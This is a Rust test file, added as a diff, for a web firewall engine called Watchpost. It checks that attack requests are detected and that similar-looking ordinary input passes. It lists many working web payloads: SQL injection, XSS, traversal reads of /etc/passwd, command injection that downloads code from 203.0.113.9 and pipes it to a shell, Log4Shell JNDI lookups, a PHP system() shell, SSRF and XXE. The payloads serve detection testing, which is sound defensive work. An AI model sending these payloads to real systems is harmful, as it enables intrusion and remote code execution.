@@ -1,0 +1,303 @@
+//! The inspection engine on requests written for each technique, and on ordinary input
+//! that looks a little like it. These are Watchpost's own examples, not corpus lines: the
+//! corpus figures come from `watchpost eval web`.
+
+use watchpost_web::{Engine, Request};
+
+fn query(q: &str) -> Request {
+    Request {
+        method: "GET".into(),
+        path: "/search".into(),
+        query: q.into(),
+        headers: vec![("Host".into(), "shop.example".into())],
+        ..Request::default()
+    }
+}
+
+fn form(body: &str) -> Request {
+    Request {
+        method: "POST".into(),
+        path: "/submit".into(),
+        headers: vec![(
+            "Content-Type".into(),
+            "application/x-www-form-urlencoded".into(),
+        )],
+        body: body.into(),
+        ..Request::default()
+    }
+}
+
+fn json(body: &str) -> Request {
+    Request {
+        method: "POST".into(),
+        path: "/api/items".into(),
+        headers: vec![("Content-Type".into(), "application/json".into())],
+        body: body.into(),
+        ..Request::default()
+    }
+}
+
+/// The categories the engine reports for a request it calls an attack (empty otherwise).
+fn verdict(request: &Request) -> Vec<&'static str> {
+    let v = Engine::default().inspect(request);
+    if !v.is_attack() {
+        return Vec::new();
+    }
+    let mut cats: Vec<&'static str> = v.hits.iter().map(|f| f.hit.category.as_str()).collect();
+    cats.dedup();
+    cats
+}
+
+fn assert_attack(request: Request, category: &str) {
+    let cats = verdict(&request);
+    assert!(
+        cats.contains(&category),
+        "{category} expected for {request:?}, got {cats:?}"
+    );
+}
+
+fn assert_clean(request: Request) {
+    let v = Engine::default().inspect(&request);
+    assert!(
+        !v.is_attack(),
+        "false positive on {request:?}: {:?}",
+        v.hits
+    );
+}
+
+#[test]
+fn sql_injection_techniques() {
+    for q in [
+        "id=1%27%20or%20%271%27%3D%271", // tautology after a quote
+        "id=5%20or%201%3D1",             // numeric tautology
+        "user=admin%27--",               // comment truncation
+        "id=-1%20union%20all%20select%20null,version()--", // union select
+        "id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users", // inline comments
+        "q=1%27%3B%20DROP%20TABLE%20users--", // stacked statement
+        "id=1%20and%20sleep(5)",         // time-based
+        "id=1%27%20and%20extractvalue(1,concat(0x7e,@@version))--", // error-based
+        "sort=name%20order%20by%203--",  // clause appended
+        "id=1%27%20into%20outfile%20%27/var/www/x.php", // file write
+        "q=%27;%20exec%20master..xp_cmdshell%20%27dir%27--", // stored procedure
+        "id=1%27)%20as%20x%20where%201%3D1%20and%20(2%3D2)--", // closing a subquery
+    ] {
+        assert_attack(query(q), "sqli");
+    }
+    assert_attack(json(r#"{"filter": {"name": "x' OR 'a'='a"}}"#), "sqli");
+}
+
+#[test]
+fn prose_and_product_names_are_not_sql() {
+    for q in [
+        "q=rock%20%27n%27%20roll",
+        "q=o%27reilly%20media",
+        "q=48%22%20x%2036%22%20frame",
+        "q=select%20the%20best%20option%20from%20the%20list",
+        "q=%22where%27s%20george%22",
+        "email=jane.doe%40example.com",
+        "q=drop%20shipping%20and%20returns",
+        "q=it%27s%20like%20that%20-%20and%20more",
+        "q=what%20is%20an%20execute%20master%27s%20degree",
+    ] {
+        assert_clean(query(q));
+    }
+}
+
+#[test]
+fn cross_site_scripting_techniques() {
+    for q in [
+        "q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
+        "q=%3Csvg/onload%3Dalert(1)%3E",
+        "url=javascript:alert(1)",
+        "url=jav%26%23x61;script:alert(1)", // entity inside the scheme
+        "q=%22%20onmouseover%3D%22alert(1)", // attribute breakout
+        "q=%27;alert(String.fromCharCode(88))//", // JS string breakout
+        "q=%3C/textarea%3E%3Cb%3Ehi",       // closing the surrounding element
+        "q=%3Cdiv%20style%3D%22background:url(javascript:alert(1))%22%3E",
+        "q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D", // base64
+    ] {
+        assert_attack(query(q), "xss");
+    }
+}
+
+#[test]
+fn ordinary_markup_and_words_are_not_xss() {
+    for q in [
+        "q=javascript%3A%20the%20good%20parts",
+        "q=a%20%3C%20b%20and%20c%20%3E%20d",
+        "q=%3Cb%3Ebold%3C/b%3E",
+        "q=onion%20rings%3D%20tasty",
+        "q=confirm%20my%20order",
+    ] {
+        assert_clean(query(q));
+    }
+}
+
+#[test]
+fn traversal_and_file_inclusion() {
+    for q in [
+        "file=../../../../etc/passwd",
+        "file=..%252f..%252f..%252fetc%252fpasswd", // double encoding
+        "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", // overlong UTF-8
+        "file=..%5c..%5cwindows%5cwin.ini",         // backslashes
+        "page=php://filter/convert.base64-encode/resource=index.php",
+        "lang=/proc/self/environ",
+        "file=%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", // look-alikes
+    ] {
+        let cats = verdict(&query(q));
+        assert!(
+            cats.contains(&"path_traversal") || cats.contains(&"lfi"),
+            "{q}: {cats:?}"
+        );
+    }
+    let mut r = query("");
+    r.path = "/static/..%2f..%2f..%2fetc/passwd".into();
+    assert_attack(r, "path_traversal");
+    assert_attack(query("page=http://203.0.113.9/shell.txt%3F"), "rfi");
+}
+
+#[test]
+fn ordinary_paths_and_urls_are_not_traversal() {
+    for q in [
+        "next=/account/settings",
+        "img=photos/2026/11/beach.jpg",
+        "ref=https://www.example.com/blog/post?id=5",
+        "v=1.2..3",
+        "dir=home/projects",
+    ] {
+        assert_clean(query(q));
+    }
+}
+
+#[test]
+fn command_injection_techniques() {
+    for q in [
+        "host=127.0.0.1%3B%20cat%20/etc/passwd",
+        "host=x%7Cid",
+        "host=%60whoami%60",
+        "host=%24(curl%20http://203.0.113.9/x%7Csh)",
+        "host=a%26%26%20net%20user",
+        "cmd=w%27g%27et%20http://203.0.113.9/x", // quotes inside a word
+        "cmd=cat%24%7BIFS%7D/etc/passwd",
+        "cmd=/???/c?t%20/e??/p??swd",
+        "cmd=%7Bcat,/etc/passwd%7D",
+        "cmd=bash%20-c%20%27id%27",
+    ] {
+        assert_attack(query(q), "cmdi");
+    }
+}
+
+#[test]
+fn prose_with_semicolons_and_pipes_is_not_a_command() {
+    for q in [
+        "msg=dear%20team%3B%20copy%20should%20reach%20us%20soon",
+        "msg=results%20%7C%20more%20info%20below",
+        "ua=compatible%3B%20touch%3B%20arm",
+        "q=cats%20%26%20dogs",
+    ] {
+        assert_clean(query(q));
+    }
+}
+
+#[test]
+fn other_injections() {
+    assert_attack(
+        query("x=%24%7Bjndi:ldap://203.0.113.9/a%7D"),
+        "java_injection",
+    );
+    assert_attack(
+        query("x=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D"),
+        "java_injection",
+    );
+    assert_attack(query("name=%7B%7B7*7%7D%7D"), "ssti");
+    assert_attack(query("name=%7B%7B''.__class__.__mro__%7D%7D"), "ssti");
+    assert_attack(
+        form("code=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"),
+        "php_injection",
+    );
+    assert_attack(query("user%5B%24ne%5D=x"), "nosqli");
+    assert_attack(
+        json(r#"{"user": {"$gt": ""}, "password": {"$gt": ""}}"#),
+        "nosqli",
+    );
+    assert_attack(query("user=*)(uid%3D*))(%7C(uid%3D*"), "ldapi");
+    assert_attack(query("x=%3C!--%23exec%20cmd%3D%22id%22--%3E"), "ssi");
+    assert_attack(
+        query("url=http://169.254.169.254/latest/meta-data/"),
+        "ssrf",
+    );
+    assert_attack(query("url=http://2130706433/admin"), "ssrf");
+    assert_attack(query("url=http://%5B::ffff:127.0.0.1%5D/"), "ssrf");
+    assert_attack(query("next=%0d%0aSet-Cookie:%20session%3Devil"), "crlf");
+    assert_attack(
+        form("email=a%40example.com%0aBcc:%20victims%40example.org"),
+        "mail_injection",
+    );
+    let xxe = Request {
+        method: "POST".into(),
+        path: "/import".into(),
+        headers: vec![("Content-Type".into(), "application/xml".into())],
+        body: r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.into(),
+        ..Request::default()
+    };
+    assert_attack(xxe, "xxe");
+    let mut scan = query("");
+    scan.headers.push((
+        "User-Agent".into(),
+        "sqlmap/1.7.2#stable (https://sqlmap.org)".into(),
+    ));
+    assert_attack(scan, "scanner");
+}
+
+#[test]
+fn ordinary_requests_pass() {
+    let mut browser = query("q=winter%20boots&page=2&sort=price_asc");
+    browser.headers.extend([
+        (
+            "User-Agent".into(),
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36".into(),
+        ),
+        ("Referer".into(), "https://shop.example/search?q=boots".into()),
+        ("Cookie".into(), "session=4f19b6a2c0; theme=dark".into()),
+        (
+            "Sec-Ch-Ua".into(),
+            r#""Chromium";v="131", "Not_A Brand";v="24""#.into(),
+        ),
+    ]);
+    assert_clean(browser);
+    assert_clean(json(
+        r#"{"name": "Widget", "tags": ["a", "b"], "price": 12.5, "notes": "Ships in 2-3 days; no returns after 30 days."}"#,
+    ));
+    assert_clean(form(
+        "email=jane%40example.com&message=Hello%21+Can+you+call+me+at+555-0100%3F",
+    ));
+    assert_clean(query(
+        "url=https://www.example.org/page&callback=https://203.0.113.5/hook",
+    ));
+}
+
+#[test]
+fn limits_are_findings_not_crashes() {
+    let deep = format!("{}1{}", "[".repeat(500), "]".repeat(500));
+    let v = Engine::default().inspect(&json(&deep));
+    assert!(v.exceeded.contains(&"JSON depth"), "{:?}", v.exceeded);
+    let many: String = (0..5000).map(|i| format!("p{i}=v&")).collect();
+    let v = Engine::default().inspect(&query(&many));
+    assert!(v.exceeded.contains(&"parameter count"));
+    let big = "a".repeat(3 << 20);
+    let v = Engine::default().inspect(&form(&format!("x={big}")));
+    assert!(v.exceeded.contains(&"body size"));
+    // Invalid encodings of every kind decode to something, never panic.
+    for q in [
+        "%",
+        "%zz",
+        "%u12",
+        "%c0",
+        "%e0%80",
+        "&#xffffffff;",
+        "\\u{110000}",
+    ] {
+        Engine::default().inspect(&query(q));
+    }
+}
